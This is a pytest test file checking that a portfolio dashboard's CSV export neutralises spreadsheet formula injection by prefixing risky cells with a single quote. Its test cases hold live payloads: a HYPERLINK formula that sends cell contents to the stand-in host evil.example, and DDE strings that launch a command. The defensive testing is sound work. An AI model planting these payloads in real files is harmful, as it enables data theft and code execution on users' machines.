"""The portfolio's CSV export cannot run formulas in a spreadsheet (issue 12, item 16).

Titles and owners starting with =, +, -, @ (or a tab or carriage return) were exported as they
were; a spreadsheet ran them. OWASP's advice: prefix such cells with a single quote.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from lia.dashboards import portfolio as pf

from .conftest import TODAY, new_assessment


@pytest.mark.parametrize("title, owner", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+1+cmd|' /C calc'!A0", "-2+3"),
    ("\t=1+1", "\r=1+1"),
    ("＝1+1", "＠SUM(A1)"),
])
def test_formula_like_titles_and_owners_are_neutralised(ws: Path, mini: Path, fake, title: str, owner: str) -> None:
    new_assessment(ws, "cc-evil", title=title, owner=owner)
    recs = list(csv.DictReader(io.StringIO(pf.to_csv_bytes(pf.collect(ws, TODAY, sources=fake)).decode("utf-8-sig"))))
    rec = recs[0]
    assert rec["title"] == "'" + title and rec["owner"] == "'" + owner


def test_ordinary_values_and_numbers_are_unchanged() -> None:
    assert pf.csv_safe("Call recording - Malmö") == "Call recording - Malmö"
    assert pf.csv_safe(-5) == -5 and pf.csv_safe("") == ""
